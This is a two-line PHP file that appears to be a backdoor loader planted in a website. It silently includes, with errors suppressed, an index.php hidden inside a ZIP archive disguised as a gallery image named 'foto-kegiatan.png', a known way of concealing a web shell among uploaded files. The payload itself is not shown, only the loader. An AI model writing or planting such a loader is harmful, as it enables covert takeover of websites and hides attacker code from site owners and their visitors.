<?php
@include("zip://" . dirname(__FILE__) . "/files/galeri/foto-kegiatan.png#index.php");
